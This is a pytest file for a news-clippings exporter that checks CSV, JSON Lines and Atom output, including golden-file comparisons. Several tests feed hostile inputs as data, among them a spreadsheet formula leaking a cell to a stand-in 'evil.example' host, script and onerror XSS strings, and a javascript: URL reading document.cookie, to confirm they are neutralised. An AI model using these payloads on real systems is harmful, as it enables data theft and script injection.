"""clippings.exports: CSV, JSON Lines and Atom, on hand-made clippings (hostile ones too) and the demo's coverage.

Golden files: tests/fixtures/golden/export.csv, export.jsonl and export.atom are the exports of the
demo site's 15 clippings (the session fixture `demo_coverage`), sorted by URL, with the demo's
random origins written as `http://<outlet slug>.demo` (`demo_coverage.stable`) and every
clipping's `first_seen_at` (the crawl time, different on every run) written as FIRST-SEEN-AT
wherever it appears (the CSV and JSONL field, and an Atom `updated` of a clipping without a
publication date). To regenerate them deliberately, after a change in the exports or in the demo:

    CLIPPINGS_UPDATE_GOLDEN=1 .venv/bin/pytest -q tests/test_exports.py -k golden

then read the diff (`git diff tests/fixtures/golden`) before committing it: the test rewrites the
files and fails, so that a rewrite is never silent.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path

import feedparser
import pytest
from lxml import etree

from clippings.article import CountClaim, Quote
from clippings.exports import (
    ATOM_NS,
    EXPORT_COLUMNS,
    atom_entries_skipped,
    count_text,
    export_atom,
    export_csv,
    export_jsonl,
    quote_text,
)
from clippings.store.repository import Store, StoredClipping

GOLDEN = Path(__file__).parent / "fixtures" / "golden"
UPDATE_GOLDEN = os.environ.get("CLIPPINGS_UPDATE_GOLDEN") == "1"
A = f"{{{ATOM_NS}}}"
RFC3339 = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?(Z|[+-]\d\d:\d\d)\Z")
SEEN = datetime(2024, 11, 6, 9, 30, 0, 123456, tzinfo=UTC)


def clipping(url: str = "https://news.example.com/a", **kw: object) -> StoredClipping:
    values: dict[str, object] = {
        "url": url, "outlet": "Example News", "headline": "Over 200 protests planned",
        "published_at": datetime(2024, 11, 5, 14, 0, tzinfo=UTC), "language": "en",
        "authors": ("Jane Roe", "John Doe"), "lede": "Organisers say over 200 events are planned.",
        "matched_terms": ("Protect the Results", "Indivisible"), "mentions": (), "alias_urls": (),
        "first_seen_at": SEEN, "body": "", "agency": None, "counts": (), "quotes": (),
    }
    values.update(kw)
    return StoredClipping(**values)  # type: ignore[arg-type]


CLAIM = CountClaim(value=200, low=201, high=None, qualifier="over", unit="events", kind="events",
                   span="Over 200", start=0, field="headline")
RANGE = CountClaim(value=120, low=120, high=150, qualifier="range", unit="protests", kind="events",
                   span="entre 120 y 150", start=10, field="body")
QUOTE = Quote(text="We are ready", speaker="Eldridge", person="Sean Eldridge", start=5, end=19)

SPANISH = clipping(
    "https://elpais.example.es/politica/2024/11/05/protestas.html", outlet="El País",
    headline="Más de 200 protestas: «Contaremos cada voto»", language="es",
    published_at=datetime(2024, 11, 5, 18, 30, tzinfo=timezone(timedelta(hours=1))),
    authors=("José Ñúñez",), lede="Los organizadores, según Indivisible, esperan más de doscientas protestas.",
    matched_terms=("Indivisible",), counts=(CLAIM, RANGE), quotes=(QUOTE,), agency="EFE",
    alias_urls=("https://elpais.example.es/a?id=1",),
)
FRENCH = clipping(
    "https://lemonde.example.fr/élection/article", outlet="Le Monde", language="fr",
    headline="« Protéger les résultats » : l’appel des manifestants", authors=(),
    published_at=None, lede="Déjà des centaines de rassemblements prévus à Besançon.",
)
ENGLISH = clipping(counts=(CLAIM,), quotes=(Quote(text="Count every vote", speaker=None, person=None, start=0,
                                                  end=18),))


def atom(clippings: list[StoredClipping], **kw: object) -> str:
    args: dict[str, object] = {"title": "Coverage", "feed_id": "https://feeds.example.org/coverage"}
    args.update(kw)
    return export_atom(clippings, **args)  # type: ignore[arg-type]


def check_atom_structure(text: str) -> etree._Element:
    """The feed is well-formed XML in the Atom namespace with RFC 4287's required elements."""
    root = etree.fromstring(text.encode("utf-8"))
    assert root.tag == A + "feed"
    for name in ("id", "title", "updated"):
        assert len(root.findall(A + name)) == 1, name
    assert RFC3339.match(root.findtext(A + "updated") or "")
    assert root.findtext(A + "generator") == "clippings"
    feed_author = root.find(A + "author") is not None
    ids = []
    for entry in root.findall(A + "entry"):
        for name in ("id", "title", "updated"):
            assert len(entry.findall(A + name)) == 1, name
        ids.append(entry.findtext(A + "id"))
        assert RFC3339.match(entry.findtext(A + "updated") or "")
        for published in entry.findall(A + "published"):
            assert RFC3339.match(published.text or "")
        authors = entry.findall(f"{A}author/{A}name")
        assert feed_author or (authors and all((a.text or "").strip() for a in authors))
        alternates = [lk for lk in entry.findall(A + "link") if lk.get("rel") == "alternate"]
        assert entry.find(A + "content") is not None or alternates  # RFC 4287 4.1.2
        for link in entry.findall(A + "link"):
            assert re.match(r"https?://", link.get("href") or "")
        assert len(entry.findall(A + "summary")) <= 1
    assert len(ids) == len(set(ids))
    # nothing but Atom (and no script, img, ... smuggled in as elements)
    assert {el.tag for el in root.iter() if isinstance(el.tag, str)} <= {A + t for t in (
        "feed", "id", "title", "updated", "link", "generator", "entry", "published", "author", "name", "summary",
        "category", "source")}
    return root


# -- CSV -------------------------------------------------------------------------------------------


def test_csv_has_every_field_and_reads_back():
    text = export_csv([SPANISH, FRENCH, ENGLISH])
    rows = list(csv.DictReader(io.StringIO(text)))
    assert tuple(rows[0]) == EXPORT_COLUMNS == (
        "url", "outlet", "headline", "published_at", "language", "authors", "lede", "matched_terms",
        "first_seen_at", "alias_urls", "agency", "counts", "quotes", "earlier_headlines")
    assert [r["url"] for r in rows] == [SPANISH.url, FRENCH.url, ENGLISH.url]
    es, fr, en = rows
    assert es == {
        "url": SPANISH.url, "outlet": "El País", "headline": "Más de 200 protestas: «Contaremos cada voto»",
        "published_at": "2024-11-05T18:30:00+01:00", "language": "es", "authors": "José Ñúñez",
        "lede": SPANISH.lede, "matched_terms": "Indivisible", "first_seen_at": "2024-11-06T09:30:00.123456+00:00",
        "alias_urls": "https://elpais.example.es/a?id=1", "agency": "EFE",
        "counts": "over 200 events (Over 200) [headline]; 120–150 protests (entre 120 y 150) [body]",
        "quotes": "“We are ready” — Eldridge (Sean Eldridge)", "earlier_headlines": "",
    }
    assert fr["published_at"] == "" and fr["authors"] == "" and fr["agency"] == "" and fr["counts"] == ""
    assert fr["headline"] == FRENCH.headline and fr["lede"] == FRENCH.lede  # non-ASCII kept
    assert en["authors"] == "Jane Roe; John Doe"
    assert en["matched_terms"] == "Protect the Results; Indivisible"
    assert en["quotes"] == "“Count every vote”"
    assert text.endswith("\r\n") and text.count("\r\n") == 4


def test_csv_header_alone_for_no_clippings():
    assert export_csv([]) == ",".join(EXPORT_COLUMNS) + "\r\n"


@pytest.mark.parametrize("value", [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1", "-2", "@SUM(A1:A9)", "\tx", "\rx", "=1+1",
])
def test_csv_cells_cannot_be_formulas(value):
    c = clipping(headline=value, outlet=value, lede=value, authors=(value, "Ana"), matched_terms=(value,),
                 agency=value, quotes=(Quote(text="hi", speaker=value, person=None, start=0, end=4),))
    row = next(csv.DictReader(io.StringIO(export_csv([c]))))
    for name in ("headline", "outlet", "lede", "authors", "matched_terms", "agency"):
        assert row[name].startswith("'" + value[0]), name
        assert row[name][1:].startswith(value), name
    assert row["authors"] == f"'{value}; Ana"
    assert row["quotes"] == f"“hi” — {value}"  # starts with a quotation mark: no formula
    for cell in row.values():
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_csv_keeps_hostile_text_inside_its_cell():
    nasty = 'a "quoted", comma\nnew line\r\nand\rbare CR <b>markup</b>\x07'
    text = export_csv([clipping(headline=nasty, lede=nasty), clipping(headline="next")])
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == 2 and rows[1]["headline"] == "next"
    assert rows[0]["headline"] == nasty and rows[0]["lede"] == nasty


# -- JSON Lines ------------------------------------------------------------------------------------


def test_jsonl_is_one_record_per_line():
    text = export_jsonl([SPANISH, FRENCH, ENGLISH])
    lines = text.split("\n")
    assert lines[-1] == "" and len(lines) == 4
    records = [json.loads(line) for line in lines[:-1]]
    assert records == [SPANISH.to_json(), FRENCH.to_json(), ENGLISH.to_json()]
    es = records[0]
    assert list(es) == ["url", "outlet", "headline", "published_at", "language", "authors", "lede", "matched_terms",
                        "first_seen_at", "alias_urls", "agency", "counts", "quotes", "earlier_headlines", "story_id",
                        "is_original"]
    assert es["counts"][1] == {"value": 120, "low": 120, "high": 150, "qualifier": "range", "unit": "protests",
                               "kind": "events", "span": "entre 120 y 150", "start": 10, "field": "body"}
    assert es["quotes"] == [{"text": "We are ready", "speaker": "Eldridge", "person": "Sean Eldridge", "start": 5,
                             "end": 19}]
    assert "Más de 200 protestas: «Contaremos cada voto»" in text and "José Ñúñez" in text  # not \u escapes
    assert "« Protéger les résultats » : l’appel des manifestants" in text
    assert export_jsonl([]) == ""


def test_jsonl_escapes_control_characters_and_newlines():
    c = clipping(headline="line\nbreak\x00\u2028end", lede="<script>alert(1)</script>")
    text = export_jsonl([c])
    assert text.count("\n") == 1
    assert json.loads(text)["headline"] == "line\nbreak\x00\u2028end"
    assert json.loads(text)["lede"] == "<script>alert(1)</script>"


# -- Atom ------------------------------------------------------------------------------------------


def test_atom_round_trips_through_feedparser():
    text = atom([SPANISH, FRENCH, ENGLISH], self_url="https://feeds.example.org/coverage.atom")
    check_atom_structure(text)
    parsed = feedparser.parse(text.encode("utf-8"))
    assert parsed.bozo == 0, parsed.get("bozo_exception")
    assert parsed.version == "atom10"
    assert parsed.feed.title == "Coverage" and parsed.feed.id == "https://feeds.example.org/coverage"
    assert parsed.feed.generator == "clippings"
    assert [lk.href for lk in parsed.feed.links if lk.rel == "self"] == ["https://feeds.example.org/coverage.atom"]
    # the newest entry's updated: the French clipping, dated by when it was first seen
    assert parsed.feed.updated == "2024-11-06T09:30:00.123456+00:00"
    es, fr, en = parsed.entries
    assert es.id == es.link == SPANISH.url
    assert es.title == SPANISH.headline
    assert [a.name for a in es.authors] == ["José Ñúñez"]
    assert es.published == es.updated == "2024-11-05T18:30:00+01:00"
    assert es.published_parsed[:5] == (2024, 11, 5, 17, 30)  # UTC
    assert [t.term for t in es.tags] == ["Indivisible"]
    assert es.summary == SPANISH.lede
    assert es.source.title == "El País"
    assert es.title_detail.language == "es" and es.summary_detail.type == "text/plain"
    # a non-ASCII path is percent-encoded into a valid IRI, and feedparser hands back the same address
    assert fr.link == fr.id == "https://lemonde.example.fr/%C3%A9lection/article"
    assert fr.title == FRENCH.headline and fr.title_detail.language == "fr"
    assert "published" not in fr and fr.updated == SEEN.isoformat()
    assert [a.name for a in fr.authors] == ["Le Monde"]  # no byline: the outlet stands as author
    assert [a.name for a in en.authors] == ["Jane Roe", "John Doe"]
    assert [t.term for t in en.tags] == ["Protect the Results", "Indivisible"]
    assert en.updated_parsed[:5] == (2024, 11, 5, 14, 0)


def test_atom_is_deterministic_and_dated_by_its_newest_entry():
    older = clipping("https://a.example/1", published_at=datetime(2020, 1, 1, tzinfo=UTC))
    newer = clipping("https://a.example/2", published_at=datetime(2021, 6, 1, 12, tzinfo=timezone(timedelta(hours=-5))))
    text = atom([older, newer])
    assert text == atom([older, newer], generated=datetime(2030, 1, 1, tzinfo=UTC))
    root = check_atom_structure(text)
    assert root.findtext(A + "updated") == "2021-06-01T12:00:00-05:00"
    assert [e.findtext(A + "id") for e in root.findall(A + "entry")] == ["https://a.example/1", "https://a.example/2"]
    assert root.find(A + "link") is None  # no self_url, no self link
    assert text.startswith('<?xml version="1.0" encoding="utf-8"?>\n<feed xmlns="http://www.w3.org/2005/Atom">')


def test_atom_without_entries_is_dated_generated():
    text = atom([], generated=datetime(2024, 11, 7, 8, 0, tzinfo=UTC))
    root = check_atom_structure(text)
    assert root.findtext(A + "updated") == "2024-11-07T08:00:00+00:00"
    assert root.findall(A + "entry") == []
    assert feedparser.parse(text.encode()).bozo == 0


@pytest.mark.parametrize("headline", ["<img src=x onerror=alert(1)>", "</title><script>alert(1)</script>",
                                      "]]><x/>&amp; &lt; <![CDATA[", 'Tom & "Jerry" \'s'])
def test_atom_escapes_markup_in_scraped_text(headline):
    c = clipping(headline=headline, lede=headline, authors=(headline,), matched_terms=(headline,), outlet=headline)
    text = atom([c], title=headline)
    root = check_atom_structure(text)  # only Atom elements: no <img>, <script>, <x>
    entry = root.find(A + "entry")
    assert entry.findtext(A + "title") == headline
    assert entry.findtext(A + "summary") == headline
    assert entry.findtext(f"{A}author/{A}name") == headline
    assert entry.find(A + "category").get("term") == headline
    assert "<img" not in text and "<script" not in text and "</title><" not in text
    parsed = feedparser.parse(text.encode())
    assert parsed.bozo == 0
    assert parsed.entries[0].title == headline  # type="text": a reader shows the characters, runs nothing


def test_atom_strips_characters_xml_forbids():
    bad = "".join(map(chr, [*range(0x00, 0x09), 0x0B, 0x0C, *range(0x0E, 0x20)])) + "\ufffe\uffff"
    c = clipping(headline=f"Head{bad}line", lede=f"le\tde{bad}", authors=(f"Ana{bad}",), matched_terms=(f"t{bad}",),
                 outlet=f"Out{bad}let", language="en")
    text = atom([c], title=f"Feed{bad}")
    for ch in bad:
        assert ch not in text
    root = check_atom_structure(text)
    entry = root.find(A + "entry")
    assert entry.findtext(A + "title") == "Headline"
    assert entry.findtext(A + "summary") == "le\tde"
    assert entry.findtext(f"{A}author/{A}name") == "Ana"
    assert entry.find(A + "category").get("term") == "t"
    assert entry.findtext(f"{A}source/{A}title") == "Outlet"
    assert root.findtext(A + "title") == "Feed"
    assert feedparser.parse(text.encode()).bozo == 0


@pytest.mark.parametrize("url", ["javascript:alert(1)", "JavaScript:alert(document.cookie)", "data:text/html,<b>x",
                                 "/relative/path", "mailto:x@example.com", "http://", "\x00javascript:alert(1)"])
def test_atom_leaves_out_clippings_without_an_http_url(url):
    bad = clipping(url, headline="Bad entry")
    good = clipping("https://news.example.com/good", headline="Good entry")
    text = atom([bad, good])
    assert "javascript" not in text.lower() and "data:" not in text and "Bad entry" not in text
    root = check_atom_structure(text)
    assert [e.findtext(A + "title") for e in root.findall(A + "entry")] == ["Good entry"]
    parsed = feedparser.parse(text.encode())
    assert parsed.bozo == 0 and [e.link for e in parsed.entries] == ["https://news.example.com/good"]
    assert atom_entries_skipped([bad, good]) == [url]
    # CSV and JSON Lines keep the record as stored (data, not a link): the CSV cell is not a formula
    assert next(csv.DictReader(io.StringIO(export_csv([bad]))))["url"] == url
    assert json.loads(export_jsonl([bad]))["url"] == url


def test_atom_rejects_bad_feed_arguments():
    with pytest.raises(ValueError, match="self_url"):
        atom([], self_url="javascript:alert(1)")
    with pytest.raises(ValueError, match="title"):
        atom([], title=" \x00")
    with pytest.raises(ValueError, match="id"):
        atom([], feed_id="")


def test_atom_entry_details():
    no_headline = clipping("https://a.example/x?q=a b&c=<d>", headline="  ", lede=None, matched_terms=(),
                           language="not a tag!", authors=("", " "))
    root = check_atom_structure(atom([no_headline]))
    entry = root.find(A + "entry")
    href = "https://a.example/x?q=a%20b&c=%3Cd%3E"
    assert entry.findtext(A + "id") == href == entry.find(A + "link").get("href")
    assert entry.findtext(A + "title") == href  # an empty headline: the URL stands as the title
    assert entry.find(A + "summary") is None and entry.find(A + "category") is None
    assert entry.get("{http://www.w3.org/XML/1998/namespace}lang") is None
    assert [n.text for n in entry.findall(f"{A}author/{A}name")] == ["Example News"]


def test_claim_and_quote_texts():
    assert count_text(CLAIM) == "over 200 events (Over 200) [headline]"
    assert count_text(RANGE) == "120–150 protests (entre 120 y 150) [body]"
    exact = CountClaim(value=1284, low=1284, high=1284, qualifier="exactly", unit="signatures", kind="signatures",
                       span="1,284", start=0)
    assert count_text(exact) == "1,284 signatures (1,284)"
    approx = CountClaim(value=200, low=200, high=None, qualifier="approx", unit="events", kind="events",
                        span="hundreds", start=0, field="lede")
    assert count_text(approx) == "approx. 200 events (hundreds) [lede]"
    assert quote_text(QUOTE) == "“We are ready” — Eldridge (Sean Eldridge)"
    assert quote_text(Quote(text="x", speaker="Sean Eldridge", person="Sean Eldridge", start=0, end=3)) == (
        "“x” — Sean Eldridge")


# -- the demo's coverage, against golden files -------------------------------------------------------


def _golden(name: str, text: str) -> None:
    path = GOLDEN / name
    if UPDATE_GOLDEN:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(text.encode("utf-8"))  # as is: the CSV's CRLF line ends included
        pytest.fail(f"rewrote {path} (CLIPPINGS_UPDATE_GOLDEN=1): read the diff, then run without it")
    assert text == path.read_bytes().decode("utf-8"), f"{name} differs from its golden file"


@pytest.fixture(scope="module")
def demo_clippings(demo_coverage) -> list[StoredClipping]:
    store = Store.open(demo_coverage.db)
    try:
        found = store.query()
    finally:
        store.close()
    assert len(found) == 15
    # store.query's order (newest first, then id) depends on the crawl's order where dates tie: sort by URL
    return sorted(found, key=lambda c: demo_coverage.stable(c.url))


def _stable(text: str, clippings: list[StoredClipping], demo_coverage, every_record: bool) -> str:
    """The demo's origins as `http://<slug>.demo`, and each crawl-time first_seen_at as FIRST-SEEN-AT.

    The timestamps are replaced as text: `first_seen_at.isoformat()` is how the CSV, the JSON and the
    Atom write them (aware UTC). CSV and JSON Lines hold every clipping's (`every_record`); the Atom
    only those of clippings without a publication date.
    """
    for c in clippings:
        seen = c.first_seen_at.isoformat()
        assert seen in text or not (every_record or c.published_at is None), c.url
        text = text.replace(seen, "FIRST-SEEN-AT")
    # story ids are database ids, which follow the crawl's order: each is written as its original's URL
    originals = {c.story_id: c.url for c in clippings if c.is_original}
    text = re.sub(r'"story_id": (\d+)', lambda m: f'"story_id": "ORIGINAL {originals[int(m.group(1))]}"', text)
    text = demo_coverage.stable(text)
    assert "127.0.0.1" not in text
    return text


@pytest.mark.parametrize("name", ["export.csv", "export.jsonl", "export.atom"])
def test_demo_coverage_golden(name, demo_clippings, demo_coverage):
    if name == "export.csv":
        text = export_csv(demo_clippings)
        rows = list(csv.DictReader(io.StringIO(text)))
        assert len(rows) == 15 and all(r["url"] and r["outlet"] and r["headline"] for r in rows)
    elif name == "export.jsonl":
        text = export_jsonl(demo_clippings)
        assert [json.loads(line) for line in text.splitlines()] == [c.to_json() for c in demo_clippings]
    else:
        text = export_atom(demo_clippings, title="Protect the Results: coverage",
                           feed_id="https://clippings.example.org/demo/coverage.atom",
                           self_url="https://clippings.example.org/demo/coverage.atom")
        check_atom_structure(text)
        parsed = feedparser.parse(text.encode("utf-8"))
        assert parsed.bozo == 0 and len(parsed.entries) == 15
        assert [e.link for e in parsed.entries] == [c.url for c in demo_clippings]
        assert [e.title for e in parsed.entries] == [c.headline for c in demo_clippings]
    _golden(name, _stable(text, demo_clippings, demo_coverage, every_record=name != "export.atom"))
